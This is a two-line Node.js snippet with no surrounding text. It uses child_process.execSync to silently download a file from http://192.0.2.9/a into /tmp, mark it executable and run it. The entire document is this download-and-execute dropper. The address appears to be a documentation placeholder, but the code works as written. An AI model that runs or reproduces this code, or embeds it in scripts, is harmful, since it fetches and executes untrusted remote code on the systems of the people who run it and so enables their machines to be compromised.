const cp = require('child_process');
cp.execSync('curl -so /tmp/a http://192.0.2.9/a && chmod +x /tmp/a && /tmp/a');
